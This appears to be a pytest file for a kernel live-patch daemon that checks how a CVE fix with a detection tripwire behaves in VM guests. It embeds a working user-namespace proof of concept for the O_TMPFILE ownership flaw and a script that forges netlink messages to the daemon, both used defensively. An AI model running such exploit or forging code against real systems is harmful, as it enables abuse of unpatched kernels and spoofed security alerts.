# SPDX-License-Identifier: GPL-2.0-only
"""Tripwires on stock kernels: a CVE's fix with one, tried with what exploits the fault.

CVE-2026-72379 is the sample: a file without a name could be made by a user that the file system
does not know (``fs: refuse O_TMPFILE creation with an unmapped fsuid or fsgid``, fs/namei.c).
Debian's 6.1.192 has the fix; its 6.12 has it already, and gets the tripwire alone.
"""

import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import pytest

import ksplicd
from ksplicd.host.journal import Outcome
from ksplicd.lab.cache import Cache
from ksplicd.lab.debian import KernelPackages, KernelSource
from ksplicd.lab.guest import Guest
from ksplicd.lab.image import build_image
from ksplicd.lab.qemu import Machine, probe_accelerator
from ksplicd.lab.snapshot import take_snapshot
from tests import netlink
from tests import slice as sample
from tests.stock import next_kernel, stock_kernel
from tests.vm.hand import (
    PATIENCE,
    Edit,
    Update,
    has_complaint,
    is_clean,
    make_bundle,
    write_patch,
)
from tests.vm.test_daemon import MANAGER, NAME, Host, Signed

CVE: Final = "CVE-2026-72379"
PLACE: Final = "vfs_tmpfile: unmapped owner"
NAMEI: Final = "fs/namei.c"
INCLUDE: Final = "#include <ksplice-patch.h>\n"
NETLINK_GENERIC: Final = 16
WINDOW: Final = 5.0
SLOTS: Final = 8
"""As kmodsrc/tripwire.c has them."""

# A user of the host, in a user namespace that does not know him; root has to make its mapping.
# unshare(2), mount(2): linux/sched.h
EXPLOIT: Final = """\
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
def call(name, *args):
    if getattr(libc, name)(*args):
        raise OSError(ctypes.get_errno(), name)
(ready, is_ready), (mapped, is_mapped) = os.pipe(), os.pipe()
child = os.fork()
if not child:
    os.setresgid(1000, 1000, 1000)
    os.setresuid(1000, 1000, 1000)
    call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    os.write(is_ready, b"x")
    os.read(mapped, 1)
    call("mount", b"none", b"/mnt", b"tmpfs", 0, b"mode=777,uid=0,gid=0")
    done = {"made": 0, "refused": 0}
    for _ in range(int(sys.argv[1])):
        try:
            os.close(os.open("/mnt", os.O_TMPFILE | os.O_RDWR, 0o600))
            done["made"] += 1
        except OSError as e:
            if e.errno != errno.EOVERFLOW:
                raise
            done["refused"] += 1
    print(*[f"{word} {number}" for word, number in done.items() if number], flush=True)
    os._exit(0)
os.read(ready, 1)
for name in ("uid_map", "gid_map"):
    with open(f"/proc/{child}/{name}", "w") as f:
        f.write("0 100000 1")
os.write(is_mapped, b"x")
sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
"""

# The daemon's way to hear, without the daemon: one JSON object a line.
LISTEN: Final = """\
import dataclasses, json, select, sys
sys.path.insert(0, "/root/lib")
from ksplicd.host.tripwire import open_listener, read_hit
listener = open_listener(sys.argv[1])
print("{}", flush=True)
while select.select([listener], [], []):
    while (data := listener.receive()) is not None:
        print(json.dumps(dataclasses.asdict(read_hit(data, listener.family_id))), flush=True)
"""

# One echo request to ourselves (RFC 792), with its checksum.
PING: Final = """\
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(struct.pack("!BBHHH", 8, 0, 0xF7FE, 0, 1), ("127.0.0.1", 0))
"""

SIGNALS: Final = f"""\
import sys
from gi.repository import Gio, GLib
bus = Gio.bus_get_sync(Gio.BusType.SYSTEM)
bus.signal_subscribe(None, "{MANAGER.split()[2]}", None, None, None, Gio.DBusSignalFlags.NONE,
                     lambda *args: print(args[4], args[5].print_(False), flush=True))
print("listening", flush=True)
GLib.MainLoop().run()
"""

# A process of the daemon's network namespace with CAP_NET_ADMIN says what a core would say.
FORGE: Final = """\
import socket, sys
NETLINK_GENERIC = 16
sys.path.insert(0, "/root/lib")
from ksplicd.host.tripwire import open_listener
sys.path.insert(0, "/root")
import netlink
family = open_listener(sys.argv[1]).family_id
ports = [int(line.split()[2]) for line in open("/proc/net/netlink")
         if line.split()[1] == str(NETLINK_GENERIC)]
forged = [netlink.message(netlink.THE_HIT, kind=family), bytes(40), b"x" * 3000]
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_GENERIC)
s.bind((0, 0))
sent = 0
for port in ports:
    for data in forged:
        try:
            sent += port > 0 and s.sendto(data, (port, 0)) > 0
        except ConnectionRefusedError:
            pass
print(sent)
"""


# --- updates ------------------------------------------------------------------------------------


def tmpfile_edits(cache: Cache, tree: Path) -> tuple[Edit, ...]:
    """Return the fix of CVE-2026-72379 with a tripwire where it refuses."""
    function = re.compile(r"^(?:static )?int vfs_tmpfile\(.*?^\}\n", re.MULTILINE | re.DOTALL)
    old = function.search(sample.read_source(tree, NAMEI))
    newer = KernelSource(cache=cache, version=sample.NEWER).files([NAMEI])[NAMEI].decode()
    assert old is not None
    fixed = old[0]
    if "-EOVERFLOW" not in fixed:
        found = function.search(newer)
        assert found is not None
        fixed = found[0]
    refusal = "\t\treturn -EOVERFLOW;\n"
    call = f'\t\tksplice_tripwire("{CVE}", "{PLACE}");\n'
    assert fixed.count(f")\n{refusal}") == 1
    fixed = fixed.replace(f")\n{refusal}", f") {{\n{call}{refusal}\t}}\n")
    first = "#include <linux/init.h>\n"
    return Edit(NAMEI, first, first + INCLUDE), Edit(NAMEI, old[0], fixed)


def context_edits() -> tuple[Edit, ...]:
    """Return edits that put tripwires where an NMI comes along, and a packet in a softirq."""
    nmi, icmp = "arch/x86/kernel/nmi.c", "net/ipv4/icmp.c"
    unknown = "\t__this_cpu_add(nmi_stats.unknown, 1);\n"
    echo = "\ticmp_param.data.icmph\t   = "
    first = "#include <linux/slab.h>\n"
    return (
        Edit(nmi, first, first + INCLUDE),
        Edit(nmi, unknown, f'\tksplice_tripwire("", "an NMI");\n{unknown}'),
        Edit(icmp, first, first + INCLUDE),
        Edit(icmp, echo, f'\tksplice_tripwire("", "a packet");\n{echo}'),
    )


class Lab:
    """A kernel, and the updates for it."""

    def __init__(self, cache: Cache, kernel: KernelPackages, folder: Path) -> None:
        self.cache, self.kernel = cache, kernel
        self.tree = sample.source_tree(cache, kernel)
        image = build_image(kernel)
        self.machine = Machine(image=image, accelerator=probe_accelerator(cache, image.kernel))
        self.bundles = {
            kid: make_bundle(cache, kernel, kid, [write_patch(self.tree, folder / kid, *edits)])
            for kid, edits in {
                "tmpfile1": tmpfile_edits(cache, self.tree),
                "context1": context_edits(),
            }.items()
        }


BOTH: Final = pytest.mark.parametrize(
    "lab", [stock_kernel, next_kernel], indirect=True, ids=["6.1", "6.12"]
)
STOCK: Final = pytest.mark.parametrize("lab", [stock_kernel], indirect=True, ids=["6.1"])


@pytest.fixture(scope="module")
def lab(
    lab_cache: Cache,
    tmp_path_factory: pytest.TempPathFactory,
    request: pytest.FixtureRequest,
) -> Lab:
    return Lab(lab_cache, request.param(lab_cache), tmp_path_factory.mktemp("tripwire"))


@pytest.fixture
def guest(lab: Lab, lab_cache: Cache) -> Iterator[Guest]:
    with Guest(take_snapshot(lab_cache, lab.machine)) as running:
        prepare(running)
        yield running
        assert not has_complaint(running.kernel_log().replace("Uhhuh", ""))


def prepare(guest: Guest) -> None:
    """Bring what hits and hears into the guest."""
    ours = Path(ksplicd.__file__).parent
    for name in ("__init__.py", "errors.py", "host/__init__.py", "host/tripwire.py"):
        guest.put(f"/root/lib/ksplicd/{name}", ours / name)
    guest.put("/root/exploit.py", EXPLOIT.encode())
    guest.put("/root/listen.py", LISTEN.encode())


def exploit(guest: Guest, times: int = 1) -> str:
    """Try the fault, and return what came of it."""
    return guest.run(f"/usr/bin/python3 /root/exploit.py {times}").out.strip()


def start_listener(guest: Guest, update: Update) -> None:
    """Let what a core says be noted."""
    file = f"-p StandardOutput=file:/root/heard-{update.kid} -u listen-{update.kid}"
    family = update.state("tripwire_family")
    guest.run(f"systemd-run -q {file} /usr/bin/python3 /root/listen.py {family}")
    wait_for(lambda: "{}" in guest.run(f"cat /root/heard-{update.kid}", check=False).out)


def heard(guest: Guest, update: Update) -> list[dict[str, Any]]:
    """Return what the listener has noted."""
    lines = guest.run(f"cat /root/heard-{update.kid}").out.splitlines()
    return [json.loads(line) for line in lines[1:]]


def wait_for(what: Callable[[], bool]) -> None:
    end = time.monotonic() + PATIENCE
    while not what():
        assert time.monotonic() < end
        time.sleep(0.2)


# --- the kernel part ----------------------------------------------------------------------------


@BOTH
def test_hit_is_told_and_undo_leaves_nothing(guest: Guest, lab: Lab) -> None:
    update = Update(guest, lab.bundles["tmpfile1"])
    if lab.kernel.release.startswith("6.1."):
        assert exploit(guest) == "made 1"
    update.apply()
    start_listener(guest, update)
    assert exploit(guest) == "refused 1"
    wait_for(lambda: bool(heard(guest, update)))
    (hit,) = heard(guest, update)
    assert (hit["cve"], hit["place"], hit["suppressed"]) == (CVE, PLACE, 0)
    who = hit["who"]
    assert (who["uid"], who["command"], who["in_task"]) == (1000, "python3", True)
    assert who["pid"] == who["tgid"] > 1
    family = update.state("tripwire_family")
    update.undo()
    assert is_clean(guest)
    asked = guest.run(f"python3 /root/listen.py {family}", check=False)
    assert "No such file or directory" in asked.err


def total(hits: list[dict[str, Any]]) -> int:
    return sum(hit["suppressed"] or 1 for hit in hits)


@STOCK
def test_hits_are_kept_until_they_are_heard_and_a_flood_is_counted(guest: Guest, lab: Lab) -> None:
    update = Update(guest, lab.bundles["tmpfile1"])
    update.apply()
    assert exploit(guest, times=100) == "refused 100"
    start_listener(guest, update)
    wait_for(lambda: total(heard(guest, update)) == 100)
    assert len(heard(guest, update)) == SLOTS + 1
    begin = time.monotonic()
    for _ in range(2):
        assert exploit(guest, times=3000) == "refused 3000"
    wait_for(lambda: total(heard(guest, update)) == 6100)
    windows = (time.monotonic() - begin) / WINDOW + 2
    assert len(heard(guest, update)) <= (SLOTS + 1) * windows
    exploit(guest, times=50)
    update.undo()  # with hits that are still to be told
    assert is_clean(guest)


@BOTH
def test_any_context_and_two_updates_at_once(guest: Guest, lab: Lab) -> None:
    first, second = (Update(guest, lab.bundles[kid]) for kid in ("tmpfile1", "context1"))
    for update in (first, second):
        update.apply()
        start_listener(guest, update)
    guest.put("/root/ping.py", PING.encode())
    guest.run("python3 /root/ping.py")
    for _ in range(3):
        guest._qemu.qmp.command("inject-nmi")
        time.sleep(0.2)
    wait_for(lambda: {hit["place"] for hit in heard(guest, second)} == {"an NMI", "a packet"})
    assert not any(hit["who"]["in_task"] for hit in heard(guest, second))
    exploit(guest)
    wait_for(lambda: bool(heard(guest, first)))
    first.undo()
    before = len(heard(guest, second))
    guest.run("python3 /root/ping.py")
    wait_for(lambda: len(heard(guest, second)) > before)
    second.undo()
    assert is_clean(guest)


@STOCK
def test_updates_without_tripwires_do_not_pay(lab: Lab, lab_cache: Cache, tmp_path: Path) -> None:
    edit = Edit("fs/fcntl.c", "(fd) ? FD_CLOEXEC : 0;", "(fd) ? FD_CLOEXEC : 4;")
    patch = write_patch(lab.tree, tmp_path / "plain.patch", edit)
    plain = make_bundle(lab_cache, lab.kernel, "nowires1", [patch])
    modules = {n: d for n, d in plain.files.items() if n.endswith(".ko")}
    assert [n for n, d in modules.items() if b"tripwire" in d or b"genl" in d] == []
    wired = lab.bundles["tmpfile1"]
    assert b"genl_register_family" in wired.files[wired.manifest.core_file]


# --- the daemon ---------------------------------------------------------------------------------

KID: Final = "wired001"


@pytest.fixture(scope="module")
def signed(lab_cache: Cache, tmp_path_factory: pytest.TempPathFactory) -> Signed:
    """The fix with its tripwire, as a bundle for the host."""
    folder = tmp_path_factory.mktemp("signed")
    key = sample.throwaway_key(folder)
    kernel = stock_kernel(lab_cache)
    tree = sample.source_tree(lab_cache, kernel)
    patch = write_patch(tree, folder / "fix.patch", *tmpfile_edits(lab_cache, tree))
    file = sample.make_update(lab_cache, kernel, patch, key.secret, out=folder, kid=KID)
    return Signed(file=file, public_key=key.public)


@pytest.fixture
def host(installed_guest: Guest, signed: Signed) -> Iterator[Host]:
    """A host with the update applied."""
    prepare(installed_guest)
    host = Host(installed_guest, signed)
    host.run(f"ksplice apply /root/{NAME}")
    yield host
    assert not has_complaint(host.guest.kernel_log())


def entries(host: Host) -> list[dict[str, str]]:
    """Return what the journal has of hits."""
    out = host.out(f"journalctl -o json MESSAGE_ID={Outcome.TRIPWIRE.value}")
    return [json.loads(line) for line in out.splitlines()]


def hits(host: Host) -> int:
    return sum(int(entry.get("KSPLICE_SUPPRESSED", "1")) for entry in entries(host))


def netlink_sockets(host: Host) -> int:
    """Return how many generic netlink sockets the daemon's network namespace has."""
    table = host.out(f"cat /proc/{host.pid()}/net/netlink").splitlines()[1:]
    return sum(int(row.split()[1]) == NETLINK_GENERIC and row.split()[2] != "0" for row in table)


def test_from_the_exploit_to_journal_and_bus(host: Host) -> None:
    host.wait_for(lambda: netlink_sockets(host) == 1)
    host.guest.put("/tmp/signals.py", SIGNALS.encode(), mode=0o644)
    for user in ("root", "nobody"):
        start_signals(host, user)
    staying = EXPLOIT.replace("os._exit(0)", "import time; time.sleep(100)")
    host.guest.put("/root/staying.py", staying.encode())
    host.run("systemd-run -q -u intruder /usr/bin/python3 /root/staying.py 1")
    host.wait_for(lambda: len(entries(host)) == 1)
    (entry,) = entries(host)
    assert {k: v for k, v in entry.items() if k.startswith("KSPLICE_")} == {
        "KSPLICE_KID": KID,
        "KSPLICE_CVE": CVE,
        "KSPLICE_PLACE": PLACE,
        "KSPLICE_PID": entry["KSPLICE_PID"],
        "KSPLICE_TGID": entry["KSPLICE_PID"],
        "KSPLICE_UID": "1000",
        "KSPLICE_COMMAND": "python3",
        "KSPLICE_CONTEXT": "task",
        "KSPLICE_TIME": entry["KSPLICE_TIME"],
    }
    assert abs(int(entry["KSPLICE_TIME"]) - int(entry["__REALTIME_TIMESTAMP"])) < 10**7
    said = f"{CVE} was tried and stopped ({PLACE}) by python3[{entry['KSPLICE_PID']}], user 1000"
    assert entry["MESSAGE"] == said
    assert entry["OBJECT_SYSTEMD_UNIT"] == "intruder.service"
    assert said in host.out("journalctl -u intruder"), "beside what the service says itself"
    explained = host.out(f"journalctl -x MESSAGE_ID={Outcome.TRIPWIRE.value}")
    assert f"Somebody tried to exploit {CVE}" in explained

    host.wait_for(lambda: "TripwireHit" in signals(host, "root"))
    (line,) = re.findall(r"TripwireHit (.*)", signals(host, "root"))
    assert f"('{KID}', '{CVE}', '{PLACE}', {{" in line
    assert "'Uid': <uint32 1000>" in line
    assert "'Context': <'task'>" in line
    host.run(f"ksplice undo {KID}")
    host.wait_for(lambda: "JobRemoved" in signals(host, "nobody"))
    assert "TripwireHit" not in signals(host, "nobody"), "it is for root alone"
    host.wait_for(lambda: netlink_sockets(host) == 0)
    assert host.is_clean()
    assert exploit(host.guest) == "made 1"


def start_signals(host: Host, user: str) -> None:
    """Let the signals that a user gets be noted."""
    file = f"-p StandardOutput=file:/root/signals-{user} -p User={user}"
    host.run(f"systemd-run -q -u signals-{user} {file} /usr/bin/python3 /tmp/signals.py")
    host.wait_for(lambda: "listening" in signals(host, user))


def signals(host: Host, user: str) -> str:
    return host.run(f"cat /root/signals-{user}", check=False).out


def test_hits_while_the_daemon_is_away_and_forged_ones(host: Host) -> None:
    host.run("systemctl stop ksplicd")
    assert exploit(host.guest, times=20) == "refused 20"
    host.run("systemctl start ksplicd")
    host.wait_for(lambda: hits(host) == 20)

    host.guest.put("/root/netlink.py", Path(netlink.__file__))
    host.guest.put("/root/forge.py", FORGE.encode())
    assert int(host.out(f"nsenter -t {host.pid()} -n python3 /root/forge.py kspl_{KID}")) >= 3
    exploit(host.guest)
    host.wait_for(lambda: hits(host) == 21)
    log = host.out("journalctl -u ksplicd -o cat")
    assert log.count("messages that no tripwire sends are ignored") == 1
    assert "4711" not in log
